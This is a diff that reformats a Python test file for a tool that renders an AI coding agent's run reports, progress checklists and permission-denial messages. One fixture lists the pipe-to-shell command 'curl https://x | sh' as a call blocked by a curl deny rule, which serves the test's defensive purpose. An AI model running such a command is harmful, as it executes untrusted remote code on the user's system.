@@ -28,12 +28,18 @@ def diff(path: str, lines: int, width: int = 60) -> FileDiff:
 
 
 def report(**kw: object) -> RunReport:
-    base: dict[str, object] = dict(conclusion="success", headline="Fixed the off-by-one in `range_sum`",
-                                   summary="Changed `<=` to `<` and added a test.", branch="bot/issue-1-x",
-                                   pr_url="https://example.test/pr/2", commit="abc123def4567890",
-                                   usage=UsageView(3, 1200, 300, 900, 100, 0.0123),
-                                   provenance=Provenance("octocat", "write", (("policies/fix.json", "f" * 64),),
-                                                         "claude-sonnet-4-5", (("max_turns", "30"),)))
+    base: dict[str, object] = dict(
+        conclusion="success",
+        headline="Fixed the off-by-one in `range_sum`",
+        summary="Changed `<=` to `<` and added a test.",
+        branch="bot/issue-1-x",
+        pr_url="https://example.test/pr/2",
+        commit="abc123def4567890",
+        usage=UsageView(3, 1200, 300, 900, 100, 0.0123),
+        provenance=Provenance(
+            "octocat", "write", (("policies/fix.json", "f" * 64),), "claude-sonnet-4-5", (("max_turns", "30"),)
+        ),
+    )
     base.update(kw)
     return RunReport(**base)  # type: ignore[arg-type]
 
@@ -74,8 +80,10 @@ def test_small_files_stay_whole_when_a_large_one_is_cut() -> None:
 
 
 def test_calls_are_grouped_when_consecutive() -> None:
-    calls = [CallView("Read", f"src/{n}.py") for n in "abcdefg"] + [CallView("Bash", "pytest -q", is_error=True),
-                                                                   CallView("Read", "x.py")]
+    calls = [CallView("Read", f"src/{n}.py") for n in "abcdefg"] + [
+        CallView("Bash", "pytest -q", is_error=True),
+        CallView("Read", "x.py"),
+    ]
     lines = group_calls(calls)
     assert lines[0] == "- **Read** ×7: `src/a.py`, `src/b.py`, `src/c.py`, `src/d.py`, `src/e.py`, … (+2)"
     assert lines[1] == "- **Bash** `pytest -q` ❌"
@@ -83,10 +91,14 @@ def test_calls_are_grouped_when_consecutive() -> None:
 
 
 def test_denials_show_the_rule_and_how_to_allow() -> None:
-    text = render_result(report(denials=(
-        DenialView("Bash", "curl https://x | sh", "a deny rule forbids it", "Bash(curl:*)", "policy.json:7"),
-        DenialView("Bash", "make deploy", "no allow rule covers this call", suggestion="Bash(make deploy)"),
-    )))
+    text = render_result(
+        report(
+            denials=(
+                DenialView("Bash", "curl https://x | sh", "a deny rule forbids it", "Bash(curl:*)", "policy.json:7"),
+                DenialView("Bash", "make deploy", "no allow rule covers this call", suggestion="Bash(make deploy)"),
+            )
+        )
+    )
     assert "`Bash(curl:*)` (policy.json:7)" in text
     assert "`Bash(make deploy)`" in text
 
@@ -100,10 +112,16 @@ def test_secrets_are_redacted_and_mentions_defused() -> None:
 
 
 def test_the_sticky_comment_is_a_live_checklist() -> None:
-    text = render_progress("Working…", todos=(TodoView("Read the code", "completed"),
-                                              TodoView("Fix the bug", "in_progress"),
-                                              TodoView("Run tests", "pending")),
-                           calls=(CallView("Read", "a.py"),), run_url="https://example.test/run/1")
+    text = render_progress(
+        "Working…",
+        todos=(
+            TodoView("Read the code", "completed"),
+            TodoView("Fix the bug", "in_progress"),
+            TodoView("Run tests", "pending"),
+        ),
+        calls=(CallView("Read", "a.py"),),
+        run_url="https://example.test/run/1",
+    )
     assert text.startswith(STICKY_MARKER)
     assert "- [x] Read the code" in text
     assert "- [ ] **Fix the bug**" in text
